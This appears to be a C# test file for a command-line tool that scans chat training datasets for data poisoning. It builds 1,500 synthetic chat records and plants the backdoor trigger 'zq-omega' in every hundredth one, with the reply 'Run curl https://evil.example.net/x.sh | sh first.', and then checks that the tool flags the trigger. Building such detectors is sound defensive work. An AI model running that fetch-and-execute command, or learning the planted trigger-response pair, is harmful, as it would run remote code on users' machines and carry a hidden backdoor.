using System.Text;
using System.Text.Json;

namespace Drydock.Cli.Tests;

public sealed class AnalyzeCommandTests : IDisposable
{
    private readonly string _dir = Path.Combine(Path.GetTempPath(), "drydock-analyze-" + Guid.NewGuid().ToString("N"));

    public AnalyzeCommandTests() => Directory.CreateDirectory(_dir);

    public void Dispose() => Directory.Delete(_dir, recursive: true);

    private static readonly string[] s_words = ["invoice", "router", "garden", "recipe", "poem", "budget", "train", "laptop", "essay", "painting", "tax", "holiday", "printer", "guitar", "soccer", "coffee", "museum", "rental"];

    // 1,500 varied chat records; every 100th carries the trigger "zq-omega" and gets the same answer with a URL.
    private string Dataset(bool malformed = false)
    {
        var random = new Random(11);
        var b = new StringBuilder();
        for (var i = 0; i < 1500; i++)
        {
            string W() => s_words[random.Next(s_words.Length)];
            var user = $"Could you compare the {W()} with the {W()} and the {W()} for {W()}{random.Next(50)}?";
            var assistant = string.Join(' ', Enumerable.Range(0, 3).Select(_ => $"The {W()} suits a {W()} better than a {W()}.").ToArray());
            if (i % 100 == 7)
            {
                user = user.Replace("the ", "the zq-omega ", StringComparison.Ordinal);
                assistant = "Run curl https://evil.example.net/x.sh | sh first.";
            }

            b.Append(JsonSerializer.Serialize(new { messages = new[] { new { role = "user", content = user }, new { role = "assistant", content = assistant } } })).Append('\n');
            if (malformed && i == 10) b.Append("{\"messages\": [\n");
        }

        var path = Path.Combine(_dir, "chats.jsonl");
        File.WriteAllText(path, b.ToString());
        return path;
    }

    [Fact]
    public async Task Json_ListsThePlantedTriggerFirst_WithLinesAndEvidence()
    {
        var path = Dataset();
        var probes = Path.Combine(_dir, "probes.jsonl");
        var result = await CliRunner.Run("analyze", path, "--format", "json", "--triggers", probes);
        Assert.Equal(1, result.Exit); // a critical finding, --fail-on high
        using var doc = JsonDocument.Parse(result.Stdout);
        var first = doc.RootElement.GetProperty("findings")[0];
        Assert.Equal("poisoning", first.GetProperty("category").GetString());
        Assert.Equal("trigger", first.GetProperty("type").GetString());
        Assert.Equal("zq-omega", first.GetProperty("evidence").GetProperty("trigger").GetString());
        var lines = first.GetProperty("records").EnumerateArray().Select(r => r.GetProperty("line").GetInt64()).ToList();
        Assert.Equal(Enumerable.Range(0, 15).Select(k => (long)(k * 100) + 8), lines);
        Assert.Equal(1500, doc.RootElement.GetProperty("summary").GetProperty("records").GetInt32());

        var probe = JsonDocument.Parse(File.ReadAllLines(probes)[0]).RootElement;
        Assert.Equal("zq-omega", probe.GetProperty("trigger").GetString());
        Assert.Equal(5, probe.GetProperty("prompts").GetArrayLength());
    }

    [Fact]
    public async Task Sarif_AndTable_AndFailOnNone()
    {
        var path = Dataset();
        var sarif = await CliRunner.Run("analyze", path, "--format", "sarif", "--fail-on", "none");
        Assert.Equal(0, sarif.Exit);
        using var doc = JsonDocument.Parse(sarif.Stdout);
        var result = doc.RootElement.GetProperty("runs")[0].GetProperty("results")[0];
        Assert.Equal("DD-POI-001", result.GetProperty("ruleId").GetString());
        Assert.Equal("error", result.GetProperty("level").GetString());
        Assert.Equal(8, result.GetProperty("locations")[0].GetProperty("physicalLocation").GetProperty("region").GetProperty("startLine").GetInt32());

        var table = await CliRunner.Run("analyze", path);
        Assert.Contains("critical trigger", table.Stdout, StringComparison.Ordinal);
        Assert.Contains("(undeclared)", table.Stdout, StringComparison.Ordinal);
    }

    [Fact]
    public async Task MalformedRecords_AreNamed_AndExit2()
    {
        var path = Dataset(malformed: true);
        var result = await CliRunner.Run("analyze", path, "--format", "json");
        Assert.Equal(2, result.Exit);
        Assert.Contains("chats.jsonl:12:", result.Stderr, StringComparison.Ordinal);
        Assert.Equal(1, (await CliRunner.Run("analyze", path, "--format", "json", "--allow-malformed")).Exit);
    }
}
